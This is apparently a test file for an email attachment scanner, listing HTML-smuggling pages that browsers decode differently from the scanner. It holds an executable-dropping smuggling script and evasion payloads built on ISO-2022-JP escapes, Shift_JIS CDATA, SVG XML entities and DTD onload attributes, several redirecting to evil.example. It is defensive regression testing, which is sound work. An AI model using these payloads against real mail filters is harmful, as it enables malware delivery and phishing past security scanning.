import { zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 6 on the page scan (HTML smuggling), encodings first: each page below ran its script in
// Chromium 156 once opened, and was delivered at the defaults.

const stack = useLocalStack();
const kit = attackerKit(stack);

const SMUGGLE = `<scr\x1b(Bipt>const b=new Blob([atob('TVqQAAMAAAAEAAAA')]);const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.exe';a.click()</script>`;
const JIS = '<meta charset="iso-2022-jp">';
const page = (name: string, text: string, type = 'text/html') =>
  attachedFile(name, Buffer.from(text, 'latin1'), type);

const BYPASSES: Record<string, [Buffer, string]> = {
  // Browsers write U+FFFD for an escape right after an escape: `<!-�- x>` is a bogus comment ended by its `>`.
  'an ISO-2022-JP page whose doubled escape keeps <!- and - apart': page(
    'invoice.html',
    `${JIS}<!-\x1b(B\x1b(B- x>${SMUGGLE}`,
  ),
  // A kanji run goes on across a line break: `<a title='` is five kanji to the browser.
  'an ISO-2022-JP page whose kanji run hides a quote across a line break': page(
    'invoice.html',
    `${JIS}\x1b$B\n<a title='\x1b(B${SMUGGLE}'>`,
  ),
  // Shift_JIS reads `\x81]` as one character: the CDATA section goes on to the next `]]>`.
  'a Shift_JIS SVG whose CDATA ]]> is half a character': page(
    'voicemail.svg',
    `<?xml version="1.0" encoding="shift_jis"?><svg xmlns="http://www.w3.org/2000/svg"><![CDATA[\x81]]><x y=']]><script>location='https://evil.example/sjis'</script>'</svg>`,
    'image/svg+xml',
  ),
  "a page whose tag name holds a quote (<p!x='>)": page(
    'invoice.htm',
    `<p!x='>${SMUGGLE.replace('\x1b(B', '')}'>`,
  ),
  "a page whose = starts an attribute name (<a ='>)": page(
    'invoice.htm',
    `<a ='>${SMUGGLE.replace('\x1b(B', '')}'>`,
  ),
  'a page whose <_ (text to HTML) hides the tag after it': page(
    'invoice.htm',
    `<_ ${SMUGGLE.replace('\x1b(B', '')}`,
  ),
  // The XML parser writes the entity's text into the link: a click runs it.
  'an SVG whose link is an XML entity holding a javascript: URL': page(
    'voicemail.svg',
    `<!DOCTYPE svg [<!ENTITY a "javas"><!ENTITY b "cript:location='https://evil.example/entity'">]><svg xmlns="http://www.w3.org/2000/svg"><a href="&a;&b;"><text y="20">Play voicemail</text></a></svg>`,
    'image/svg+xml',
  ),
  // The XML parser gives the root the onload its DTD declares: it runs unclicked.
  'an SVG whose DTD gives the root an onload attribute': page(
    'voicemail.svg',
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "location='https://evil.example/attlist'">]><svg xmlns="http://www.w3.org/2000/svg"><text y="20">Voicemail</text></svg>`,
    'image/svg+xml',
  ),
  // The part walk decodes the transfer encoding first: a soft line break inside the escape splits nothing.
  'an ISO-2022-JP page in quoted-printable, a soft break inside the doubled escape': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: text/html; name="invoice.html"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${JIS}<!-=1B(=\r\nB=1B(B- x><scr=1B=\r\n(Bipt>location=3D'https://evil.example/qp'</script>`,
      ),
    ),
    'evil.example/qp',
  ],
  'an ISO-2022-JP page inside a zip': attachedFile(
    'docs.zip',
    zipFile([
      { name: 'invoice.html', data: Buffer.from(`${JIS}\x1b$B\n<a title='\x1b(B${SMUGGLE}'>`, 'latin1') },
    ]),
  ),
  'a page whose <p<!-- is a tag name, not a comment': page(
    'invoice.htm',
    `<p<!--</style>${SMUGGLE.replace('\x1b(B', '')}`,
  ),
};

describe('attacker round 6: pages a browser decodes or tokenizes otherwise than the scan did', () => {
  attachmentTests(kit, BYPASSES);

  it('delivers genuine ISO-2022-JP and Shift_JIS pages', async () => {
    const thanks = '\x1b$B$4CmJ8$"$j$,$H$&$4$6$$$^$9\x1b(B'; // ご注文ありがとうございます
    const jis = `<html><head>${JIS}<title>${thanks}</title></head><body>\r\n<p title="${thanks}">${thanks}</p>\r\n<p>${thanks}</p></body></html>`;
    expect((await kit.inbound(page('thanks.html', jis)[0])).verdict).toBe('DEFAULT');
    const notice = Buffer.from('835c83748367955c8ea682cc82a8926d82e782b9', 'hex'); // ソフト表示のお知らせ
    const sjis = Buffer.concat([
      Buffer.from('<html><head><meta charset="shift_jis"><title>'),
      notice,
      Buffer.from('</title></head><body><p title="'),
      notice,
      Buffer.from('">'),
      notice,
      Buffer.from('</p></body></html>'),
    ]);
    expect((await kit.inbound(attachedFile('notice.html', sjis, 'text/html')[0])).verdict).toBe('DEFAULT');
  });
});
